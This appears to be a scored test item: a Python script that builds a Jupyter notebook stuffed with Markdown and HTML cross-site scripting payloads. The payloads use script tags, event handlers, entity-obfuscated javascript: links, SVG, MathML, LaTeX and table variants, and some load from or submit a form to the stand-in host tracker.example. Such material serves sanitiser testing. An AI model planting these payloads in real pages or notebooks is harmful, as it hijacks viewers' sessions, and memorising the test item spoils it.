"""
attack: scripts in Markdown by every way round: tags, handlers, links, styles, entities, math, tables, raw cells
after: the session of whoever looks at the page
honest: true
points: 13
"""

import json
from pathlib import Path

TEXT = """<script>alert('XSS')</script> <img src=x onerror="alert('XSS')"> <IMG SRC=JaVaScRiPt:alert('XSS')>
[link](javascript:alert('XSS')) [link](JAVA&#x53;CRIPT:alert('XSS')) <a href="&#106;avascript:alert('XSS')">x</a>
[ref] <javascript:alert('XSS')> [data](data:text/html;base64,PHNjcmlwdD4=)

[ref]: javascript:alert('XSS')
<svg onload="alert('XSS')"><style>*{background:url(https://tracker.example/)}</style></svg>
<iframe srcdoc="<script>alert('XSS')</script>"></iframe>
<math><mtext></p><script>alert('XSS')</script></mtext></math>
<form action="https://tracker.example"><input name=x><button formaction="javascript:alert('XSS')">x</button></form>
<base href="https://tracker.example/"> <link rel=stylesheet href="https://tracker.example/">
<meta http-equiv=refresh content="0">
<noscript><p title="</noscript><img src=x onerror=alert('XSS')>"> <![CDATA[<script>alert('XSS')</script>]]>
$$<script>alert('XSS')</script>$$ $\\href{javascript:alert('XSS')}{x}$ `<script>alert('XSS')</script>`

| a |
|---|
| <img src=x onerror=alert('XSS')> |

![<script>](https://tracker.example/pixel.png "onerror=alert('XSS')")
"""


def submit(folder: Path, notebook: dict) -> None:
    for number, kind in enumerate(("markdown", "raw", "heading")):
        cell = {
            "cell_type": kind,
            "id": f"s-{number}",
            "metadata": {"raw_mimetype": "text/html", "tags": [TEXT]},
            "source": TEXT,
        }
        notebook["cells"].insert(1, cell)
    notebook["metadata"]["title"] = notebook["metadata"]["authors"] = TEXT
    (folder / "mod-1-lab-1.ipynb").write_text(json.dumps(notebook))
